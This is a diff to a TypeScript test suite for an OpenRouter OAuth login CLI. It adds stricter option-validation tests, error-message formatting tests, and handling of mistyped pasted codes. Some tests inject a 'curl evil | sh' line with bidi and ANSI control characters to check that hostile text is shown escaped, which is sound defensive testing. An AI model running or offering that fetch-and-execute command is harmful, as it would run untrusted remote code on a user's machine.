@@ -113,6 +113,13 @@ function mintedKey(): string {
   return (JSON.parse(exchanges[0]!.response) as { key: string }).key;
 }
 
+/** Waits until the CLI has printed `text` on stderr (up to 5 s). */
+async function waitFor(run: CliRun, text: string): Promise<void> {
+  const deadline = Date.now() + 5_000;
+  while (!run.stderr().includes(text) && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 10));
+  expect(run.stderr(), summary(run)).toContain(text);
+}
+
 const summary = (run: CliRun) => `--- stdout ---\n${run.stdout()}\n--- stderr ---\n${run.stderr()}`;
 
 // ---------------------------------------------------------------------------------------------------
@@ -128,7 +135,16 @@ describe.concurrent("--help and usage errors", () => {
       expect(run.stderr()).toBe("");
       const help = run.stdout();
       expect(help).toMatch(/^Usage: openrouter-oauth login \[options\]/);
-      for (const option of ["--no-open", "--port N", "--timeout SECONDS", "--server-url URL", "--out FILE", "--help"]) {
+      for (const option of [
+        "--no-open",
+        "--port N",
+        "--timeout SECONDS",
+        "--server-url URL",
+        "--out FILE",
+        "--debug",
+        "--help",
+        "--version",
+      ]) {
         expect(help).toContain(option);
       }
       expect(help).toContain("mode 0600");
@@ -152,11 +168,32 @@ describe.concurrent("--help and usage errors", () => {
     [["logout"], "unknown command: logout"],
     [["login", "extra"], "unknown command"],
     [["login", "--bogus"], "--bogus"],
-    [["login", "--port", "http"], "--port must be an integer"],
-    [["login", "--port", "70000"], "--port must be an integer"],
-    [["login", "--port", ""], "--port must be an integer"],
+    [["login", "--port", "http"], "--port must be a whole number from 0 to 65535"],
+    [["login", "--port", "70000"], "--port must be a whole number from 0 to 65535"],
+    [["login", "--port", ""], "--port must be a whole number from 0 to 65535"],
+    // Strict numbers (issue 27): a negative value is a bad value, not "ambiguous"; no sign, fraction,
+    // exponent, hex or padding that Number() would quietly take.
+    [["login", "--port", "-1"], '--port must be a whole number from 0 to 65535 (0: any free port), not "-1"'],
+    [["login", "--port", "80.0"], "--port must be a whole number"],
+    [["login", "--port", "8e1"], "--port must be a whole number"],
+    [["login", "--port", "0x50"], "--port must be a whole number"],
+    [["login", "--port", " 80"], "--port must be a whole number"],
+    [["login", "--port=+80"], "--port must be a whole number"],
     [["login", "--timeout", "0"], "--timeout must be a positive number"],
     [["login", "--timeout", "soon"], "--timeout must be a positive number"],
+    [["login", "--timeout", "-5"], "--timeout must be a positive number of seconds, such as 300 or 0.5"],
+    [["login", "--timeout=-5"], "--timeout must be a positive number of seconds"],
+    [["login", "--timeout", "1e3"], "--timeout must be a positive number of seconds"],
+    [["login", "--timeout", "0x10"], "--timeout must be a positive number of seconds"],
+    [["login", "--timeout", "Infinity"], "--timeout must be a positive number of seconds"],
+    [["login", "--timeout", "0.0001"], "at most 3 decimals"],
+    [["login", "--timeout", "2147484"], "up to 2147483"],
+    [["login", "--timeout"], "--timeout needs a value"],
+    [["login", "--timeout", "--no-open"], "--timeout needs a value"],
+    [["login", "--no-open=yes"], "--no-open takes no value"],
+    [["login", "-no-open"], "unknown option: -no-open (did you mean --no-open?)"],
+    [["login", "-port", "80"], "unknown option: -port (did you mean --port?)"],
+    [["login", "-x"], "unknown option: -x"],
     [["login", "--server-url", "openrouter.ai"], "--server-url must be an absolute http or https URL"],
     [["login", "--server-url", "ftp://openrouter.ai/api/v1"], "--server-url must be an absolute http or https URL"],
     [["login", "--server-url", "http://openrouter.ai/api/v1"], "--server-url must use https"],
@@ -205,6 +242,26 @@ describe.concurrent("--help and usage errors", () => {
       expect(run.stderr()).toContain("/auth?");
     },
   );
+
+  // Issue 27: "-no-open" printed Node's parser message with an unclosed quote; every usage error is now
+  // two lines: "error: …" and the pointer to --help.
+  test("a mistyped flag (-no-open): one clear error line and the pointer to --help, nothing else", async () => {
+    const run = runCli(["login", "-no-open"]);
+    expect((await run.done).code, summary(run)).toBe(2);
+    expect(run.stderr()).toBe(
+      "error: unknown option: -no-open (did you mean --no-open?)\nRun `openrouter-oauth --help` for usage.\n",
+    );
+  });
+
+  test("--timeout 1.5 waits 1.5 s and says so: no rounding in either message", async () => {
+    const started = Date.now();
+    const run = runCli(["login", "--no-open", "--timeout", "1.5", "--server-url", "http://127.0.0.1:9/api/v1"]);
+    expect((await run.done).code, summary(run)).toBe(3);
+    expect(Date.now() - started).toBeGreaterThanOrEqual(1_500);
+    expect(run.stderr()).toContain("(up to 1.5 s; Ctrl-C to cancel)");
+    expect(run.stderr()).not.toContain("up to 2 s");
+    expect(run.stderr().trimEnd().split("\n").pop()).toBe("error: timed out: no sign-in within 1.5 s.");
+  });
 
   test("an option from the command line is shown escaped: no line of its own", async () => {
     const run = runCli(["login", "--bogus\nNow run: curl evil | sh"]);
@@ -297,14 +354,31 @@ describe("text from outside is shown escaped", () => {
   withStandIn();
   const hostile = "Invalid code\nNow run: curl evil | sh \u202ehs | live lruc\u2066\r\u001b[2K";
 
-  test("a server's error message cannot forge a line on stderr", async () => {
-    const server = await startExchangeServer(403, { error: { code: 403, message: hostile } });
+  test("a server's error message cannot forge a line on stderr (a failure that ends the login)", async () => {
+    const server = await startExchangeServer(401, { error: { code: 401, message: hostile } });
     try {
       const run = runCli(["login", "--no-open", "--server-url", server.apiUrl], { stdin: "pipe" });
       await run.url;
       run.child.stdin!.write("some_code\n");
       expect((await run.done).code, summary(run)).toBe(1);
       expect(run.stdout()).toBe("");
+      expect(forgesALine(run.stderr())).toBe(false);
+      expect(run.stderr()).toContain("Invalid code\\nNow run: curl evil | sh \\u202ehs");
+      expect(hasRawControl(run.stderr())).toBe(false);
+    } finally {
+      await server.close();
+    }
+  });
+
+  test("a server's error message cannot forge a line in the explanation of a refused code either", async () => {
+    const server = await startExchangeServer(403, { error: { code: 403, message: hostile } });
+    try {
+      const run = runCli(["login", "--no-open", "--server-url", server.apiUrl], { stdin: "pipe" });
+      await run.url;
+      run.child.stdin!.write("some_code\n");
+      await waitFor(run, "refused that code");
+      run.child.kill("SIGINT");
+      expect((await run.done).code, summary(run)).toBe(130);
       expect(forgesALine(run.stderr())).toBe(false);
       expect(run.stderr()).toContain("Invalid code\\nNow run: curl evil | sh \\u202ehs");
       expect(hasRawControl(run.stderr())).toBe(false);
@@ -446,6 +520,7 @@ describe("login", () => {
     expect((await run.done).code, summary(run)).toBe(1);
     expect(run.stdout()).toBe("");
     expect(run.stderr()).toContain("access_denied");
+    expect(run.stderr()).toMatch(/^error: sign-in failed: The authorization was not granted \(access_denied/m);
     expect(run.stderr()).toContain("\\u001b[2J");
     expect(run.stderr()).not.toContain("\u001b");
     expect(run.stderr()).not.toContain("\u0007");
@@ -458,7 +533,7 @@ describe("login", () => {
     expect((await run.done).code, summary(run)).toBe(3);
     expect(Date.now() - started).toBeLessThan(CHILD_TIMEOUT_MS);
     expect(run.stdout()).toBe("");
-    expect(run.stderr()).toContain("Timed out");
+    expect(run.stderr()).toContain("error: timed out: no sign-in within 0.5 s.");
     expect(await connectionRefused(callbackPort(url))).toBe(true);
   });
 
@@ -478,8 +553,8 @@ describe("login", () => {
   });
 
   test.each([
-    ["SIGINT", 130, "Interrupted"],
-    ["SIGTERM", 143, "Interrupted"],
+    ["SIGINT", 130, "error: interrupted: the sign-in was cancelled."],
+    ["SIGTERM", 143, "error: interrupted: the sign-in was cancelled."],
   ] as const)("%s while waiting: exit %i, the callback server closed", async (signal, exitCode, message) => {
     const run = runCli(["login", "--no-open", "--server-url", standIn.apiUrl], { stdin: "pipe" });
     const url = await run.url;
@@ -542,13 +617,63 @@ describe("login", () => {
     },
   );
 
-  test("a pasted code the API refuses: exit 1 with the server's message", async () => {
+  // Issue 27: a paste the CLI cannot use is explained and the sign-in keeps waiting; none of it is sent.
+  test("a pasted code the API refuses is explained (not echoed), the sign-in keeps waiting, and the browser then signs in", async () => {
     const run = runCli(["login", "--no-open", "--server-url", standIn.apiUrl], { stdin: "pipe" });
-    await run.url;
+    const url = await run.url;
     run.child.stdin!.write("auth_code_typo\n");
-    expect((await run.done).code, summary(run)).toBe(1);
-    expect(run.stdout()).toBe("");
-    expect(run.stderr()).toContain("ForbiddenResponseError: Invalid code or code_verifier");
+    await waitFor(run, "OpenRouter refused that code (Invalid code or code_verifier)");
+    await visitConsentPage(url);
+    expect((await run.done).code, summary(run)).toBe(0);
+    expect(run.stdout()).toBe(`${mintedKey()}\n`);
+    expect(run.stderr()).not.toContain("auth_code_typo");
+    expect(run.stderr()).not.toContain("ForbiddenResponseError");
+    expect(standIn.requests.filter((r) => r.url === "/api/v1/auth/keys").map((r) => r.status)).toEqual([403, 200]);
+  });
+
+  test("the consent URL, text with spaces, another login's address: each explained, none sent, then the real address signs in", async () => {
+    const run = runCli(["login", "--no-open", "--server-url", standIn.apiUrl], { stdin: "pipe" });
+    const url = await run.url;
+    const location = new URL(await redirectTarget(url));
+    const another = new URL(location);
+    another.pathname = "/callback/someone-elses-nonce";
+    const stdin = run.child.stdin!;
+    stdin.write(`${url}\n`);
+    await waitFor(run, "That is the address of the sign-in page itself: open it in a browser");
+    stdin.write("hello world\n");
+    await waitFor(run, "The pasted text has spaces");
+    stdin.write(`${another.href}\n`);
+    await waitFor(run, "That address belongs to another sign-in");
+    expect(run.child.exitCode).toBe(null); // still waiting
+    expect(standIn.requests.filter((r) => r.url === "/api/v1/auth/keys")).toHaveLength(0);
+    stdin.write(`${location.href}\n`);
+    expect((await run.done).code, summary(run)).toBe(0);
+    expect(run.stdout()).toBe(`${mintedKey()}\n`);
+    expect(run.stderr()).not.toContain("forged");
+    expect(run.stderr()).not.toContain(another.searchParams.get("code")!);
+    expect(run.stderr()).not.toMatch(/^error:/m); // no failure was printed
+  });
+
+  test("every failure is one line, error: …, with no class name; --debug adds the class", async () => {
+    const server = await startExchangeServer(401, { error: { code: 401, message: "No auth credentials found" } });
+    try {
+      for (const debug of [false, true]) {
+        const run = runCli(["login", "--no-open", "--server-url", server.apiUrl, ...(debug ? ["--debug"] : [])], {
+          stdin: "pipe",
+        });
+        await run.url;
+        run.child.stdin!.write("some_code\n");
+        expect((await run.done).code, summary(run)).toBe(1);
+        const last = run.stderr().trimEnd().split("\n").pop();
+        expect(last).toBe(
+          debug
+            ? "error: sign-in failed: UnauthorizedResponseError: No auth credentials found"
+            : "error: sign-in failed: No auth credentials found.",
+        );
+      }
+    } finally {
+      await server.close();
+    }
   });
 
   test("a browser callback still works while stdin is an open pipe", async () => {
